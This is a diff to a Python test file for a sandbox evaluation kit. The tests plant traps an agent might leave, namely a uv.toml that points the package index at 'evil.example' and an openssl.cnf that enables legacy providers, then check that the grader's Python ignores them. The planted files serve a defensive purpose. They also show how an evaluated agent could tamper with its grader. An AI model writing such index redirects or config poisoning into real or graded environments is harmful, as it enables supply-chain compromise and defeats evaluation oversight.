@@ -21,7 +21,7 @@ from sandbox.images import calls
 from sandbox.kit.__main__ import main
 from sandbox.kit.check import check
 from sandbox.kit.fetch import debian_program
-from sandbox.kit.phase import BASH, verify_environment
+from sandbox.kit.phase import BASH, ENVIRONMENT, verify_environment
 from sandbox.network import LABEL
 from sandbox.session import SandboxSession, SessionLimits
 
@@ -110,13 +110,23 @@ async def test_the_kits_python_loads_nothing_that_the_agent_left(session: Sandbo
         "printf '[tool.uv]\\nindex-url = \"http://evil.example\"' > /app/uv.toml; printf 42 > /app/answer"
     )
     await session.run(traps, S)
-    look = "$(uv python find 3.13) -I -c 'import ssl; print(open(\"/proc/self/maps\").read())'"
+    look = f"{ENVIRONMENT}/bin/python -c 'import ssl; print(open(\"/proc/self/maps\").read())'"
     own = await graded(session, look)
     mapped = {line.split()[-1] for line in own.splitlines() if ".so" in line}
     assert mapped
     assert all(each.startswith("/.sbx/verify/") for each in mapped if each.startswith("/")), mapped
     said = await graded(session, HARBOR)
     assert "2 passed, 1 skipped" in said, said
+
+
+OPENSSL = "[a]\nproviders = b\n[b]\nlegacy = c\ndefault = c\n[c]\nactivate = 1\n"
+
+
+async def test_the_kits_python_reads_no_settings_of_openssl_that_name_a_library(session: SandboxSession):
+    await session.write_files({"/etc/ssl/openssl.cnf": f"openssl_conf = a\n{OPENSSL}".encode()})
+    look = f'{ENVIRONMENT}/bin/python %s -c \'import hashlib; hashlib.new("md4"); print("loaded")\''
+    assert "loaded" not in (await graded(session, look % "")).splitlines()
+    assert "loaded" in (await graded(session, look % "-S")).splitlines(), "the settings have no teeth"
 
 
 async def test_what_the_kit_does_not_have_is_refused_by_name(session: SandboxSession):
